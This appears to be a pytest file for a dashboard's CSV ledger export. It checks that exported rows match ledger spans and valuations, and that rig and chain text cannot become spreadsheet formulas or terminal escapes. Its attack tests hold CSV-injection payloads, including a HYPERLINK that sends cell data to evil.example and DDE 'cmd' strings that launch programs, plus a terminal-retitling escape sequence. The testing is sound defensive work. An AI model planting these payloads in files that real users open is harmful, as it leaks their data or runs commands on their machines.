"""The owner's books as CSV (issue 57, dashboard/ledger_csv.py): read back by Python's csv and by SQLite's own CSV
reader (a second, independent RFC 4180 parser), the file equals the ledger: a row per span, the hours summing to
the ledger's seconds, each amount the dashboard's valuation; and text a rig or the chain sends cannot become a
spreadsheet formula (CSV injection) nor drive a terminal."""

from __future__ import annotations

import csv
import dataclasses
import io
import math
import shutil
import sqlite3
import subprocess
from datetime import datetime

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from test_readiness import facts  # tests/unit is on sys.path (no package)

from miner2provider.core.errors import ProviderError
from miner2provider.dashboard import ledger_csv, views
from miner2provider.dashboard.history import History
from miner2provider.dashboard.ledger_csv import COLUMNS, PaymentRow
from miner2provider.detect.readiness import assess
from miner2provider.detect.report import RigReport
from miner2provider.rigside.ledger import Entry
from miner2provider.rigside.status import AgentStatus, Measured
from miner2provider.timeshare import economics

HOUR, DAY = 3600.0, 86_400.0
T0 = 1_800_000_000.0 - 1_800_000_000.0 % DAY  # a UTC midnight
ECON = economics.parse("currency: USD\nlease_price_per_gpu_hour:\n  default: 0.10\n  rtx3090: 0.25\n"
                       "mining_revenue_per_gpu_day:\n  rtx3090: 1.20\nmining_revenue_per_mhs_day:\n  kawpow: 0.05\n",
                       "econ.yml")
TEXT_COLUMNS = ("rig", "mode", "leases", "currency", "basis")


def rig_report(name="rig01", measured=None):
    """A HiveOS rig with one RTX 3090 (test_readiness's facts), its agent measuring its miner or not."""
    f = facts()
    f = dataclasses.replace(f, agent_status=AgentStatus(True, "mining", measured=measured))
    return RigReport(name, "10.0.0.1", f, assess(f))


def rig(ledger, seen_at, name="rig01", measured=None):
    return views.RigInput(name, ("farm",), seen_at, None, tuple(ledger), report=rig_report(name, measured))


def whole(rigs, economics, since, until, payments=()):
    """The file as ``m2p history --csv`` and the download write it: ledger_csv's rows, in its chunks, joined."""
    return "".join(ledger_csv.chunks(ledger_csv.rows(rigs, economics, since, until, payments)))


def read_back(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def sqlite_read_back(path):
    """The file as SQLite's shell imports it (``.import --csv``: its own C parser of RFC 4180, the first row the
    column names), every cell text."""
    shell = shutil.which("sqlite3")
    assert shell, "the sqlite3 shell is missing: scripts/install installs it (apt-get install sqlite3)"
    db = path.parent / "read.sqlite3"
    subprocess.run([shell, str(db), f".import --csv {path} books"], check=True, capture_output=True, timeout=60)
    with sqlite3.connect(db) as read:
        read.row_factory = sqlite3.Row
        return [dict(row) for row in read.execute("SELECT * FROM books ORDER BY rowid")]


def when(cell):
    return datetime.fromisoformat(cell).timestamp()


# -- the file equals the ledger ------------------------------------------------------------

def test_the_file_read_back_by_two_readers_equals_the_ledger_span_by_span(tmp_path):
    """Three GPUs: mining, an hour offered idle, a whole-rig lease, a per-card lease (1 GPU leased, 2 mined beside
    it), draining; stored in and read from the history database as the CLI and the page do."""
    ledger = [Entry(T0 + 1 * HOUR, "mining", gpus=3),
              Entry(T0 + 3 * HOUR, "leasing", gpus=3),
              Entry(T0 + 4 * HOUR, "leasing", gpus=3, leases=("tenant/web-1",), leased=3),
              Entry(T0 + 6.5 * HOUR, "leasing", gpus=3, leases=("tenant/web-1", "other/job"), leased=1, mining=2),
              Entry(T0 + 8 * HOUR, "draining", gpus=3)]
    with History(tmp_path / "h.sqlite3") as history:
        history.add_ledger("rig01", ledger, seen_at=T0 + 9 * HOUR)
        stored = history.ledger("rig01", T0, math.inf)
    one = rig(stored, seen_at=T0 + 9 * HOUR)
    since, until = ledger_csv.window(1, T0 + 10 * HOUR)
    assert since == T0
    text = whole([one], ECON, since, until)
    assert text.startswith(",".join(COLUMNS) + "\r\n") and text.count("\r\n") == 6  # RFC 4180: CRLF, a header
    path = tmp_path / "books.csv"
    path.write_text(text, newline="")
    by_python, by_sqlite = read_back(text), sqlite_read_back(path)
    assert by_python == by_sqlite
    assert [(r["record"], r["mode"], r["leases"], r["cards_leased"], r["cards_mined"]) for r in by_python] == [
        ("ledger", "mining", "", "0", "3"), ("ledger", "leasing", "", "0", "0"),
        ("ledger", "leasing", "tenant/web-1", "3", "0"), ("ledger", "leasing", "tenant/web-1 other/job", "1", "2"),
        ("ledger", "draining", "", "0", "0")]
    assert [(when(r["start"]), when(r["end"])) for r in by_python] == [
        (T0 + 1 * HOUR, T0 + 3 * HOUR), (T0 + 3 * HOUR, T0 + 4 * HOUR), (T0 + 4 * HOUR, T0 + 6.5 * HOUR),
        (T0 + 6.5 * HOUR, T0 + 8 * HOUR), (T0 + 8 * HOUR, T0 + 9 * HOUR)]  # the last: up to the rig's last read
    assert sum(float(r["hours"]) for r in by_python) == pytest.approx(8.0, abs=1e-5)
    # 2 h x 3 GPUs mined at 1.20 / 24; 2.5 h x 3 leased at 0.25; 1.5 h x 1 leased + 1.5 h x 2 mined
    assert [r["amount"] for r in by_python] == ["0.30", "0.00", "1.88", "0.53", "0.00"]
    assert [(r["lease_rate"], r["mining_rate"], r["basis"]) for r in by_python][2:4] == [
        ("0.25", "", "estimated: economics file"), ("0.25", "0.05", "estimated: economics file")]
    assert {r["currency"] for r in by_python} == {"USD"}
    window = views.earnings(views.span_totals(views.rig_spans(one, since, until), 1), ["rtx3090"], ECON)
    assert sum(float(r["gpu_hours_leased"]) for r in by_python) == pytest.approx(window["gpu_hours_leased"])
    assert sum(float(r["gpu_hours_mined"]) for r in by_python) == pytest.approx(window["gpu_hours_mined"])
    assert sum(float(r["amount"]) for r in by_python) == pytest.approx(window["total"], abs=0.02)


def test_mining_at_the_measured_hashrate_says_so_and_unknown_prices_are_left_empty():
    """The agent measured 58 MH/s of kawpow at 0.05 a MH/s-day: 2.90 a GPU-day, as the dashboard values it."""
    ledger = [Entry(T0, "mining", gpus=1), Entry(T0 + 2 * HOUR, "leasing", gpus=1, leases=("t/p",), leased=1)]
    measured = rig(ledger, T0 + 4 * HOUR, measured=Measured("kawpow", (58.0,), (240.0,)))
    rows = read_back(whole([measured], ECON, T0, T0 + DAY))
    assert [(r["mining_rate"], r["amount"], r["basis"]) for r in rows] == [
        (format(2.9 / 24, ".10g"), "0.24", "measured hashrate"), ("", "0.50", "estimated: economics file")]
    for file, said in ((economics.parse("currency: USD\n", "e.yml"), ledger_csv.UNKNOWN),
                       (economics.NONE, ledger_csv.NO_FILE)):
        unpriced = read_back(whole([rig(ledger, T0 + 4 * HOUR)], file, T0, T0 + DAY))
        assert [(r["lease_rate"], r["mining_rate"], r["amount"]) for r in unpriced] == [("", "", ""), ("", "", "")]
        assert {r["basis"] for r in unpriced} == {said}


def test_payments_follow_the_ledger_in_the_window_and_a_payment_that_is_no_number_is_refused():
    # in the order the history gives them (by time): the CSV keeps it, and one before the window is left out
    paid = [PaymentRow(T0 - 1, "rig01", "akash1t/70/1/1", 1.0, 9.0, "AKT", 9.0, "before the window"),
            PaymentRow(T0 + 2 * HOUR, "rig02", "akash1t/78/1/1", 1.5, 0.5, "AKT", 0.3333333333333, "chain: escrow"),
            PaymentRow(T0 + 5 * HOUR, "rig01", "akash1t/77/1/1", 4.0, 1.234567, "AKT", 0.3086, "chain: escrow"),
            PaymentRow(T0 + DAY, "rig01", "akash1t/79/1/1", 1.0, 2.0, "AKT", 2.0, "read at the window's end: out")]
    rows = read_back(whole([rig([Entry(T0, "mining", gpus=1)], T0 + HOUR)], ECON, T0, T0 + DAY, paid))
    assert [(r["record"], r["rig"], r["leases"], r["hours"], r["amount"], r["currency"], r["lease_rate"],
             r["rate_unit"]) for r in rows] == [
        ("ledger", "rig01", "", "1.000000", "0.05", "USD", "", "per GPU-hour"),
        ("payment", "rig02", "akash1t/78/1/1", "1.500000", "0.5", "AKT", "0.3333333333", "per lease-hour"),
        ("payment", "rig01", "akash1t/77/1/1", "4.000000", "1.234567", "AKT", "0.3086", "per lease-hour")]
    assert when(rows[1]["start"]) == T0 + 2 * HOUR
    for bad in (math.nan, math.inf, True):
        with pytest.raises(ProviderError, match="amount is"):
            PaymentRow(T0, "rig01", "akash1t/9/1/1", 1.0, bad, "AKT", 1.0, "chain")
    with pytest.raises(ProviderError, match="paid_at 1e\\+20 is no date"):
        PaymentRow(1e20, "rig01", "akash1t/9/1/1", 1.0, 1.0, "AKT", 1.0, "chain")


# -- property: any ledger ------------------------------------------------------------------

CHANGES = st.lists(st.tuples(st.floats(0, 10 * DAY, allow_nan=False), st.sampled_from(views.MODES),
                             st.integers(0, 2), st.text(max_size=12)), max_size=30)


@settings(max_examples=80, deadline=None)
@given(CHANGES, st.floats(0, 12 * DAY, allow_nan=False), st.integers(1, 8), st.integers(1, 12),
       st.booleans())
@example([(0.0, "mining", 0, ""), (1.192092896e-07, "mining", 0, "")], 0.0, 1, 12, False)  # a CI run's: 0.1 µs mined
def test_any_ledger_read_back_is_its_spans_and_the_dashboards_figures(changes, seen, gpus, days, measured):
    """A lease of a change: 0 none, 1 the whole rig, 2 one GPU with the miner on the others; lease names any text."""
    ledger = [Entry(T0 + at, mode, gpus=gpus, leases=(f"ns/{name}",) if lease else (),
                    leased={0: 0, 1: gpus, 2: 1}[lease], mining=gpus - 1 if lease == 2 else 0)
              for at, mode, lease, name in sorted(changes)]
    one = rig(ledger, T0 + seen, measured=Measured("kawpow", (30.0,), ()) if measured else None)
    since, until = ledger_csv.window(days, T0 + 11 * DAY)
    rows = read_back(whole([one], ECON, since, until))
    spans = views.rig_spans(one, since, until)
    assert len(rows) == len(spans)
    for row, span in zip(rows, spans, strict=True):
        assert abs(when(row["start"]) - span.start) < 1e-3 and abs(when(row["end"]) - span.end) < 1e-3
        assert row["mode"] == span.mode and float(row["hours"]) == pytest.approx(span.seconds / HOUR, abs=1e-6)
        # a rate where the span has GPU-hours of its kind, however few (a span of 0.1 µs prints 0.000000 hours)
        totals = views.span_totals([span], len(views.gpu_models(one.report)))
        for rate, seconds in (("lease_rate", totals.gpu_seconds_leased), ("mining_rate", totals.gpu_seconds_mined)):
            assert (row[rate] != "") == (seconds > 0)
        parts = [round(float(row[hours]) * float(row[rate]), 2) for rate, hours in
                 (("lease_rate", "gpu_hours_leased"), ("mining_rate", "gpu_hours_mined")) if row[rate]]
        assert float(row["amount"]) == pytest.approx(sum(parts), abs=0.011)  # each part to the cent, as the page
    assert sum(float(r["hours"]) for r in rows) == pytest.approx(sum(s.seconds for s in spans) / HOUR, abs=1e-5)
    valued = views.earnings(views.span_totals(spans, 1), ["rtx3090"], ECON,
                            views.economy(views.agent_of(one)[0], ECON)["measured_per_gpu_day"])
    assert sum(float(r["amount"]) for r in rows) == pytest.approx(valued["total"], abs=0.005 * len(rows) + 0.01)


@settings(max_examples=80, deadline=None)
@given(st.lists(st.lists(st.text(max_size=8), max_size=4), max_size=40), st.integers(1, 12))
def test_the_download_s_chunks_are_the_file_cut_at_row_ends(cells, rows_per_chunk):
    """Any rows (cells with quotes, commas, line ends), any chunk size: the chunks joined are the file one writer
    writes, each ends a row and holds ``rows_per_chunk`` rows, the last one at most that."""
    whole = io.StringIO(newline="")
    csv.writer(whole).writerows(cells)
    chunks = list(ledger_csv.chunks(cells, rows_per_chunk))
    assert "".join(chunks) == whole.getvalue()
    held = [len(list(csv.reader(io.StringIO(chunk, newline="")))) for chunk in chunks]
    assert all(chunk.endswith("\r\n") for chunk in chunks)
    assert held[:-1] == [rows_per_chunk] * (len(held) - 1) and 1 <= (held or [1])[-1] <= rows_per_chunk
    assert sum(held) == len(cells)


# -- attacks -------------------------------------------------------------------------------

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_a_rig_or_the_chain_sends_reaches_the_spreadsheet_as_text(tmp_path, formula):
    """ATTACK (CSV injection): a rig's ledger names a lease, its mode and the rig itself with a formula, and the chain
    a payment's basis; a spreadsheet would run any cell that starts with = + - @ (or tab or CR before one).  Every
    such cell must come back starting with a single quote, by both readers."""
    ledger = [Entry(T0, formula[:32], gpus=1, leases=(formula,), leased=1)]
    paid = [PaymentRow(T0 + HOUR, formula, formula, 1.0, 1.0, formula[:5], 1.0, formula)]
    text = whole([rig(ledger, T0 + HOUR, name=formula)], ECON, T0, T0 + DAY, paid)
    path = tmp_path / "books.csv"
    path.write_text(text, newline="")
    sent = {"ledger": {"rig": formula, "mode": formula[:32], "leases": formula},
            "payment": {"rig": formula, "leases": formula, "currency": formula[:5], "basis": formula}}
    for rows in (read_back(text), sqlite_read_back(path)):
        assert [row["record"] for row in rows] == ["ledger", "payment"]
        for row in rows:
            assert not any(row[column].startswith(ledger_csv.FORMULA_STARTS) for column in TEXT_COLUMNS), row
            for column, value in sent[row["record"]].items():
                cell = row[column]
                assert cell.startswith("'") and cell[1:].lstrip("\ufffd") == value.lstrip("\t\r\n\0"), (column, cell)


def test_quotes_commas_and_terminal_controls_in_a_rigs_text_neither_break_rows_nor_reach_the_terminal():
    """A lease named with a quote, a comma and a CRLF stays one cell; an escape sequence (ESC ]: retitle the
    terminal) or a bidi override from a rig is replaced, since `m2p history --csv -` prints the file."""
    lease = 'a "b", c\r\nd\x1b]0;owned\x07\u202eevil'
    rows = read_back(whole([rig([Entry(T0, "leasing", gpus=1, leases=(lease,), leased=1)], T0 + HOUR,
                                          name='rig "1", west')], ECON, T0, T0 + DAY))
    assert len(rows) == 1 and rows[0]["rig"] == 'rig "1", west'
    assert rows[0]["leases"] == 'a "b", c\ufffd\ufffdd\ufffd]0;owned\ufffd\ufffdevil'
